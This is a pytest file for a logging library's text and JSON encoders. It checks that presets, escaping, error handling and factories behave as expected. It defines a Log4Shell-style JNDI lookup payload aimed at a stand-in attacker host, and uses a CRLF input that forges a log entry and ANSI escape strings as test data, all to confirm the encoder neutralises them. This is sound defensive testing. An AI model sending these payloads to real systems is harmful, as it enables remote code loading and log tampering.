from __future__ import annotations

import json

import pytest

from lib_log_dispatch.adapters.encoding import JsonEncoder, TextEncoder, create_encoder, create_encoders, escape_controls
from lib_log_dispatch.domain import EncodingError, EncodingFormat, LogLevel
from tests.factories import make_record
from tests.os_markers import OS_AGNOSTIC

pytestmark = [OS_AGNOSTIC]

LOOKUP = "${jndi:ldap://attacker.example:1389/Exploit}"


def test_text_encoding_keeps_lookup_syntax_literal() -> None:
    record = make_record(template="User input: {}", args=(LOOKUP,))

    line = TextEncoder(template="{message}").encode(record)

    assert line == f"User input: {LOOKUP}\n".encode()


def test_json_encoding_keeps_lookup_syntax_literal() -> None:
    record = make_record(template="User input: {}", args=(LOOKUP,), fields={"input": LOOKUP})

    payload = json.loads(JsonEncoder().encode(record))

    assert payload["message"] == f"User input: {LOOKUP}"
    assert payload["args"] == [LOOKUP]
    assert payload["fields"] == {"input": LOOKUP}
    assert payload["template"] == "User input: {}"


def test_text_encoding_escapes_line_breaks_in_user_data() -> None:
    record = make_record(template="login {}", args=("bob\r\n2025-01-01 ERROR forged entry",), fields={"note": "a\nb"})

    line = TextEncoder(template="{message}{fields_text}").encode(record).decode()

    assert line.count("\n") == 1
    assert line == "login bob\\r\\n2025-01-01 ERROR forged entry note=a\\nb\n"


def test_escape_controls_makes_terminal_escapes_visible() -> None:
    assert escape_controls("\x1b[31mred") == "\\x1b[31mred"
    assert escape_controls("tab\there") == "tab\\there"
    assert escape_controls("plain ünïcödé") == "plain ünïcödé"


def test_json_output_is_one_line_with_utf8() -> None:
    record = make_record(template="{}", args=("grüße\nzwei",))

    encoded = JsonEncoder().encode(record)

    assert encoded.endswith(b"\n")
    assert encoded.count(b"\n") == 1
    assert "grüße".encode() in encoded


def test_presets_render_expected_layouts() -> None:
    record = make_record(level=LogLevel.WARNING, template="disk {}", args=("low",), fields={"mount": "/"})

    assert TextEncoder(preset="short").encode(record) == b"12:00:00|WARN|tests: disk low\n"
    full = TextEncoder(preset="full").encode(record).decode()
    assert full.startswith("2025-09-23T12:00:00+00:00 WARNING tests rec-0 disk low")
    assert full.endswith(" mount=/\n")


def test_unknown_preset_and_placeholder_are_rejected() -> None:
    with pytest.raises(ValueError, match="Unknown text format preset"):
        TextEncoder(preset="fancy")
    with pytest.raises(ValueError, match="Unknown placeholder"):
        TextEncoder(template="{hostname} {message}")


@pytest.mark.parametrize("encoder", [TextEncoder(), JsonEncoder()], ids=["text", "json"])
def test_lone_surrogates_raise_encoding_error(encoder: TextEncoder | JsonEncoder) -> None:
    record = make_record(template="bad {}", args=("\udcff",))

    with pytest.raises(EncodingError) as excinfo:
        encoder.encode(record)

    assert excinfo.value.record_id == "rec-0"
    assert excinfo.value.encoding == encoder.format.value


def test_raising_str_becomes_encoding_error() -> None:
    class Hostile:
        def __str__(self) -> str:
            raise RuntimeError("no")

    with pytest.raises(EncodingError):
        TextEncoder().encode(make_record(template="{}", args=(Hostile(),)))


def test_non_json_values_are_stringified() -> None:
    record = make_record(template="{}", args=("x",), fields={"obj": object, "inf": float("inf")})

    payload = json.loads(JsonEncoder().encode(record))

    assert payload["fields"]["inf"] == "inf"
    assert payload["fields"]["obj"] == str(object)


def test_factories_cover_every_format() -> None:
    encoders = create_encoders("{message}")

    assert set(encoders) == set(EncodingFormat)
    assert isinstance(create_encoder("json"), JsonEncoder)
    assert isinstance(create_encoder(EncodingFormat.TEXT, text_preset="short"), TextEncoder)


def test_escape_controls_covers_c1_controls() -> None:
    assert escape_controls("\u009b[31mred") == "\\x9b[31mred"
    assert escape_controls("next\u0085line") == "next\\x85line"
    assert escape_controls("\u0080\u009f ") == "\\x80\\x9f "
